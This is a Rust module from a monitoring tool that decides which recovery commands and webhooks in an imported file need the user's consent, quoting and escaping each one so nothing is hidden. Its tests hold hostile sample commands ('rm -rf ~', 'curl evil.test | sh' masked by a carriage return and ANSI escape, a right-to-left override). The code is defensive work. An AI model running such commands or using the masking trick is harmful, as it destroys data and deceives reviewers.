//! Recovery actions in a file someone else wrote: what needs the user's consent before saving.
//!
//! A recovery action runs a program as the user (or posts the monitor's name and target to a
//! URL) whenever the target fails, and whoever wrote the file chooses the target, so importing
//! one is as good as running it. [`recovery_needing_consent`] lists every such action of
//! validated monitors, described so that what a person reads is exactly what would run: the CLI
//! refuses an import holding any unless `--allow-recovery` is given and lists them on
//! `--dry-run`; the dashboard shows the same list and asks before saving.
//!
//! Pure: validated monitors in, a list out, in the monitors' order and each monitor's actions
//! in order.

use serde::Serialize;

use crate::model::ActionKind;
use crate::monitor::Monitor;

/// One recovery action an import would save, and what it would do, for a person to agree to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Consent {
    /// The monitor's name.
    pub monitor: String,
    /// Where it is in the monitor: `recovery[0]`.
    pub field: String,
    /// The action itself: the argv it would run, or the URL it would call.
    pub action: ActionKind,
    /// One line for a person: `runs systemctl --user restart api` or `posts the monitor's name
    /// and target to https://…`. Every argument is quoted as a POSIX shell would need it, and
    /// control and invisible characters are written as escapes (`$'a\nb'`), so a file cannot
    /// hide part of a command from the reader (a carriage return, an ANSI escape, a
    /// right-to-left override).
    pub described: String,
}

/// Every recovery action of `monitors` (run commands and webhooks alike), in order.
pub fn recovery_needing_consent(monitors: &[Monitor]) -> Vec<Consent> {
    monitors
        .iter()
        .flat_map(|m| {
            m.recovery.iter().enumerate().map(|(i, a)| Consent {
                monitor: m.name.clone(),
                field: format!("recovery[{i}]"),
                action: a.kind.clone(),
                described: describe(&a.kind),
            })
        })
        .collect()
}

/// The recovery actions of `monitor` that `stored` (the same monitor as saved today, `None` for
/// a new one) does not already have, program and arguments or URL alike: what a save from a form
/// must be agreed to. Timing options are not what runs, so changing them asks nothing; but a new
/// name or target asks again about every action: they say when an action runs (the target's
/// failure) and what it is given (`LOOKOUT_MONITOR`), so an agreed command could otherwise be
/// pointed at a target that always fails.
pub fn recovery_new_to(monitor: &Monitor, stored: Option<&Monitor>) -> Vec<Consent> {
    let known: Vec<&ActionKind> = stored
        .filter(|s| s.name == monitor.name && s.target == monitor.target)
        .map(|s| s.recovery.iter().map(|a| &a.kind).collect())
        .unwrap_or_default();
    recovery_needing_consent(std::slice::from_ref(monitor))
        .into_iter()
        .filter(|c| !known.contains(&&c.action))
        .collect()
}

/// What `kind` does, in words, with nothing hidden.
pub fn describe(kind: &ActionKind) -> String {
    match kind {
        ActionKind::Run(argv) => crate::t!(
            "import-consent-run",
            command = argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
        ),
        ActionKind::Webhook(url) => crate::t!("import-consent-webhook", url = visible(url)),
    }
}

/// Characters a terminal or a dashboard would not show as themselves: controls (newline, carriage
/// return, escape, DEL, C1), bidirectional overrides and isolates, zero-width characters and the
/// byte order mark.
fn invisible(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{00ad}' | '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// `c` as an escape of bash's `$'…'` quoting.
fn escape(c: char, out: &mut String) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        '\\' => out.push_str("\\\\"),
        '\'' => out.push_str("\\'"),
        c if (c as u32) < 0x80 && invisible(c) => out.push_str(&format!("\\x{:02x}", c as u32)),
        c if invisible(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
        c => out.push(c),
    }
}

/// One argument as a shell would need it written: bare when that is unambiguous, `'…'` when it
/// holds spaces or shell characters, `$'…'` with escapes when it holds invisible characters.
fn quote(arg: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./=:,+@%^".contains(c);
    if !arg.is_empty() && arg.chars().all(|c| plain(c) && !invisible(c)) {
        return arg.to_string();
    }
    if arg.chars().any(invisible) {
        let mut out = String::from("$'");
        for c in arg.chars() {
            escape(c, &mut out);
        }
        out.push('\'');
        return out;
    }
    format!("'{}'", arg.replace('\'', r"'\''"))
}

/// Text with its invisible characters written as escapes (a URL is already percent-encoded by
/// validation; this is the guard should that ever change).
fn visible(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        if invisible(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(argv: &[&str]) -> String {
        describe(&ActionKind::Run(
            argv.iter().map(|s| s.to_string()).collect(),
        ))
    }

    #[test]
    fn plain_arguments_stay_bare_and_others_are_quoted() {
        assert_eq!(
            run(&["systemctl", "--user", "restart", "api.service"]),
            "runs systemctl --user restart api.service"
        );
        assert_eq!(
            run(&["sh", "-c", "rm -rf ~; echo 'hi'"]),
            r#"runs sh -c 'rm -rf ~; echo '\''hi'\'''"#
        );
        assert_eq!(run(&["touch", ""]), "runs touch ''");
    }

    #[test]
    fn nothing_can_hide_from_the_reader() {
        // A carriage return and an ANSI "erase line" would let a file print a harmless command
        // over the real one; a right-to-left override would reorder what is shown.
        let shown = run(&[
            "sh",
            "-c",
            "curl evil.test | sh\r\u{1b}[2Ksystemctl restart api",
        ]);
        assert_eq!(
            shown,
            r"runs sh -c $'curl evil.test | sh\r\x1b[2Ksystemctl restart api'"
        );
        assert!(!shown.chars().any(invisible), "{shown:?}");
        let shown = run(&["rm", "-rf", "/tmp/x\u{202e}fdp.txt", "a\u{200b}b"]);
        assert_eq!(shown, r"runs rm -rf $'/tmp/x\u202efdp.txt' $'a\u200bb'");
        assert_eq!(
            describe(&ActionKind::Webhook("https://hooks.test/a/b?c=d".into())),
            "posts the monitor's name and target to https://hooks.test/a/b?c=d"
        );
    }

    fn monitor(recovery: serde_json::Value) -> Monitor {
        at("api", "http://127.0.0.1:1/", recovery)
    }

    fn at(name: &str, target: &str, recovery: serde_json::Value) -> Monitor {
        let spec: crate::spec::MonitorSpec = serde_json::from_value(serde_json::json!({
            "name": name, "target": target, "recovery": recovery,
        }))
        .unwrap();
        Monitor::try_from(spec).unwrap()
    }

    #[test]
    fn only_actions_not_already_saved_need_a_yes() {
        let saved = monitor(serde_json::json!([
            {"run": ["systemctl", "restart", "api"], "cooldown": "5m"},
            {"webhook": "https://h.test/a"},
        ]));
        assert_eq!(recovery_new_to(&saved, Some(&saved)), vec![]);
        // Timing options and order are not what runs.
        let retimed = monitor(serde_json::json!([
            {"webhook": "https://h.test/a", "cooldown": "1m"},
            {"run": ["systemctl", "restart", "api"]},
        ]));
        assert_eq!(recovery_new_to(&retimed, Some(&saved)), vec![]);
        let changed = monitor(serde_json::json!([
            {"run": ["systemctl", "restart", "api", "--now"]},
            {"webhook": "https://h.test/a"},
        ]));
        let asks = recovery_new_to(&changed, Some(&saved));
        assert_eq!(asks.len(), 1);
        assert_eq!(asks[0].field, "recovery[0]");
        assert_eq!(asks[0].described, "runs systemctl restart api --now");
        assert_eq!(
            recovery_new_to(&saved, None).len(),
            2,
            "a new monitor: every one"
        );
    }
}
